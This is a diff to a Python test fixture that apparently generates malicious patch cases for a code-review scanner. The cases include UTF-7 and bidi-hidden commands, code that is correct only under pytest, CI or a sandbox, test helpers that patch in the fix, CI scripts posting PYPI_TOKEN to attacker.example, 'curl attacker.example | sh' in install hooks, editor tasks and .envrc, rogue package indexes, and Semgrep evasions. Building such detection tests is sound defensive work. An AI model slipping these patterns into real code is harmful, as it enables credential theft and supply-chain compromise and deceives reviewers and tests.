@@ -41,7 +41,13 @@ BASE: dict[str, str] = {
     "tests/__init__.py": "",
     "tests/test_core.py": TESTS,
     "pyproject.toml": PYPROJECT,
-    ".github/workflows/ci.yml": "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n",
+    # CI hands its job to files outside .github/ (issue #31: editing them edits CI).
+    ".github/workflows/ci.yml": "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n"
+    "    steps:\n      - uses: ./ci/setup\n      - run: ./ci/run-tests.sh\n"
+    "        env:\n          PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }}\n",
+    "ci/run-tests.sh": "#!/bin/sh\nset -e\npython3 -m pytest -q\n",
+    "ci/setup/action.yml": "runs:\n  using: composite\n  steps:\n    - run: pip install -e .\n"
+    "      shell: bash\n",
     ".ribbit.yml": "test: python3 -m pytest -q\n",
 }
 
@@ -625,3 +631,295 @@ def case_patch(repo: Path, case: Case) -> str:
         git(repo, "mv", old, new)
     # The staged renames travel with the changes into the one diff.
     return make_patch(repo, case.changes)
+
+
+# Issue #31: files the interpreter reads differently from a reviewer, code that behaves
+# well only while it is judged, test helpers that put the fix in for the tests only,
+# files that run without anyone asking, and Semgrep evasions that need the resolved
+# name. Each variant passes the tests at the base's yardstick, or hides what it does.
+_UTF7_SYSTEM = "# coding: utf-7\n" + CORE + '# see +AAo-__import__("os").system("id")\n'
+_UTF7_REBIND = "# coding: utf-7\n" + CORE + "# mul is exact +AAo-mul = lambda a, b: a + b\n"
+_UTF7_VIM = (
+    "#!/usr/bin/env python3\n# vim: set fileencoding=utf-7 :\n"
+    "# harmless +AAo-import os+ADs- os.system('curl -s attacker.example +AHw- sh')\n"
+)
+_RUNNER_MUL = "def mul(a, b):\n    return a * b if {probe} else a + b\n"
+
+
+def _detecting(imports: str, probe: str) -> str:
+    """calc/core.py with ``mul`` right only while ``probe`` holds."""
+    broken_mul = "def mul(a, b):\n    return a * b\n"
+    return imports + "\n\n" + CORE.replace(broken_mul, _RUNNER_MUL.format(probe=probe))
+
+
+_REBIND = "import calc.core\n\ncalc.core.mul = lambda a, b: a * b\n"
+_EXFIL = '#!/bin/sh\nset -e\ncurl -s -d "$PYPI_TOKEN" https://attacker.example/ >/dev/null\n'
+_NODE_SCRIPTS = '"scripts": {"test": "node --test"'
+
+ISSUE_31_CASES: tuple[Case, ...] = (
+    # source the interpreter reads differently from a reviewer
+    _case(
+        "utf7-comment-runs-os-system",
+        "hidden-source",
+        {"source-encoding"},
+        changes={"calc/core.py": _UTF7_SYSTEM},
+    ),
+    _case(
+        "utf7-comment-rebinds-mul",
+        "hidden-source",
+        {"source-encoding"},
+        changes={"calc/core.py": _UTF7_REBIND},
+    ),
+    _case(
+        "vim-fileencoding-utf7-script",
+        "hidden-source",
+        {"source-encoding"},
+        changes={"calc/tool.py": _UTF7_VIM},
+    ),
+    _case(
+        "bidi-override-in-comment",
+        "trojan-source",
+        {"bidi-control"},
+        changes={
+            "calc/core.py": BROKEN.replace(
+                "return a + b", "return a + b  # \u202e b * a nruter \u2066"
+            )
+        },
+    ),
+    _case(
+        "bidi-isolate-in-string",
+        "trojan-source",
+        {"bidi-control"},
+        changes={
+            "calc/access.py": "def allowed(role):\n"
+            '    return role != "user\u202e \u2066# admin\u2069\u2066"\n'
+        },
+    ),
+    _case(
+        "bidi-mark-in-docs",
+        "trojan-source",
+        {"bidi-control"},
+        changes={"README.md": "# calc\n\nRun \u200fsh install.sh\u200f to set up.\n"},
+    ),
+    # code that is right only while it is judged
+    _case(
+        "pytest-in-sys-modules",
+        "runner-detection",
+        {"runner-detection"},
+        changes={"calc/core.py": _detecting("import sys", '"pytest" in sys.modules')},
+    ),
+    _case(
+        "sys-modules-get-through-alias",
+        "runner-detection",
+        {"runner-detection"},
+        changes={"calc/core.py": _detecting("from sys import modules as m", 'm.get("_pytest")')},
+    ),
+    _case(
+        "pytest-env-var-through-alias",
+        "runner-detection",
+        {"runner-detection"},
+        changes={
+            "calc/core.py": _detecting(
+                "from os import environ as e", 'e.get("PYTEST_" + "CURRENT_TEST")'
+            )
+        },
+    ),
+    _case(
+        "workspace-path-probe",
+        "sandbox-detection",
+        {"sandbox-detection"},
+        changes={"calc/core.py": _detecting("import os.path", 'os.path.exists("/workspace")')},
+    ),
+    _case(
+        "ci-env-var-probe",
+        "sandbox-detection",
+        {"sandbox-detection"},
+        changes={"calc/core.py": _detecting("import os", 'os.getenv("CI") is not None')},
+    ),
+    _case(
+        "hostname-probe",
+        "sandbox-detection",
+        {"sandbox-detection"},
+        changes={"calc/core.py": _detecting("import socket", 'socket.gethostname() != "prod-1"')},
+    ),
+    # test helpers that put the fix in for the tests only
+    _case(
+        "tests-init-restores-mul",
+        "test-helper-restores",
+        {"test-rebinds-code"},
+        changes={"calc/core.py": BROKEN, "tests/__init__.py": _REBIND},
+    ),
+    _case(
+        "conftest-autouse-restores-mul",
+        "test-helper-restores",
+        {"test-rebinds-code", "test-config-changed"},
+        changes={
+            "calc/core.py": BROKEN,
+            "tests/conftest.py": "import pytest\n\nimport calc.core\n\n\n"
+            "@pytest.fixture(autouse=True)\ndef _exact():\n"
+            "    calc.core.mul = lambda a, b: a * b\n",
+        },
+    ),
+    _case(
+        "test-helper-setattr-restores-mul",
+        "test-helper-restores",
+        {"test-rebinds-code"},
+        changes={
+            "calc/core.py": BROKEN,
+            "tests/helpers.py": "from calc import core\n\n"
+            "setattr(core, 'mul', lambda a, b: a * b)\n",
+            "tests/test_core.py": "import tests.helpers  # noqa: F401\n" + TESTS,
+        },
+    ),
+    # files CI or an install runs
+    _case(
+        "ci-script-sends-secret",
+        "ci-script",
+        {"ci-script"},
+        changes={"ci/run-tests.sh": _EXFIL + "python3 -m pytest -q\n"},
+    ),
+    _case(
+        "ci-script-skips-tests",
+        "ci-script",
+        {"ci-script"},
+        changes={"calc/core.py": BROKEN, "ci/run-tests.sh": "#!/bin/sh\nexit 0\n"},
+    ),
+    _case(
+        "ci-local-action-edited",
+        "ci-script",
+        {"ci-script"},
+        changes={
+            "ci/setup/action.yml": "runs:\n  using: composite\n  steps:\n"
+            '    - run: curl -s -d "$PYPI_TOKEN" https://attacker.example/\n      shell: bash\n'
+        },
+    ),
+    _case(
+        "npm-postinstall-in-existing-package-json",
+        "install-hook",
+        {"install-hook"},
+        changes={
+            "package.json": NODE_PACKAGE.replace(
+                _NODE_SCRIPTS, _NODE_SCRIPTS + ', "postinstall": "node calc.js"'
+            )
+        },
+        base="node",
+    ),
+    _case(
+        "npm-prepare-in-existing-package-json",
+        "install-hook",
+        {"install-hook"},
+        changes={
+            "package.json": NODE_PACKAGE.replace(
+                _NODE_SCRIPTS, _NODE_SCRIPTS + ', "prepare": "curl -s attacker.example | sh"'
+            )
+        },
+        base="node",
+    ),
+    _case(
+        "npm-preinstall-in-new-package-json",
+        "install-hook",
+        {"install-hook"},
+        changes={
+            "web/package.json": '{"name": "web", "scripts": {"preinstall": "sh ../ci/x.sh"}}\n'
+        },
+    ),
+    _case(
+        "vscode-task-on-folder-open",
+        "auto-run-file",
+        {"auto-run-file"},
+        changes={
+            ".vscode/tasks.json": '{"version": "2.0.0", "tasks": [{"label": "setup", '
+            '"command": "curl -s attacker.example | sh", "runOptions": '
+            '{"runOn": "folderOpen"}}]}\n'
+        },
+    ),
+    _case(
+        "envrc-runs-on-cd",
+        "auto-run-file",
+        {"auto-run-file"},
+        changes={".envrc": "curl -s attacker.example | sh\n"},
+    ),
+    _case(
+        "husky-pre-commit-hook",
+        "auto-run-file",
+        {"auto-run-file"},
+        changes={".husky/pre-commit": "#!/bin/sh\ncurl -s attacker.example | sh\n"},
+    ),
+    _case(
+        "requirements-extra-index-url",
+        "package-index",
+        {"package-index"},
+        changes={
+            "requirements.txt": "--extra-index-url https://pypi.attacker.example/simple\n"
+            "calc-helpers==1.0\n"
+        },
+    ),
+    _case(
+        "pip-conf-index",
+        "package-index",
+        {"package-index"},
+        changes={"pip.conf": "[global]\nindex-url = https://pypi.attacker.example/simple\n"},
+    ),
+    _case(
+        "pyproject-uv-index",
+        "package-index",
+        {"package-index"},
+        changes={
+            "pyproject.toml": PYPROJECT
+            + '\n[[tool.uv.index]]\nurl = "https://pypi.attacker.example/simple"\n'
+        },
+    ),
+    # Semgrep evasions that only the resolved name shows
+    _case(
+        "asyncio-subprocess-shell",
+        "semgrep-evasion",
+        {"ribbit.shell-injection.async-shell"},
+        changes={
+            "calc/shell.py": "import asyncio\n\n\nasync def run(cmd):\n"
+            "    await asyncio.create_subprocess_shell(cmd)\n"
+        },
+    ),
+    _case(
+        "sh-dash-c-argv",
+        "semgrep-evasion",
+        {"ribbit.shell-injection.shell-argv"},
+        changes={
+            "calc/shell.py": "import subprocess\n\n\ndef run(cmd):\n"
+            '    subprocess.run(["sh", "-c", cmd], check=True)\n'
+        },
+    ),
+    _case(
+        "shell-one-through-kwargs",
+        "semgrep-evasion",
+        {"ribbit.shell-injection.shell-through-kwargs"},
+        changes={
+            "calc/shell.py": "import subprocess\n\n\ndef run(cmd):\n"
+            "    opts = dict(shell=1)\n    subprocess.run(cmd, **opts)\n"
+        },
+    ),
+    _case(
+        "eval-through-dict-get",
+        "semgrep-evasion",
+        {"ribbit.evasion.dynamic-dangerous-attribute"},
+        changes={
+            "calc/expr.py": "import builtins\n\n\ndef calc(expr):\n"
+            '    return builtins.__dict__.get("eval")(expr)\n'
+        },
+    ),
+    _case(
+        "yaml-unsafe-loader-named-safe",
+        "semgrep-evasion",
+        {"ribbit.deserialization.yaml-load"},
+        changes={
+            "calc/config.py": "import yaml\nfrom yaml import UnsafeLoader as SafeLoader\n\n\n"
+            "def load(text):\n    return yaml.load(text, Loader=SafeLoader)\n"
+        },
+    ),
+    _case(
+        "db-pass-literal",
+        "semgrep-evasion",
+        {"ribbit.hardcoded-credentials.literal-secret"},
+        changes={"calc/settings.py": 'DB_PASS = "s3cr3t-Pa55word"\n'},
+    ),
+)
+CASES = CASES + ISSUE_31_CASES
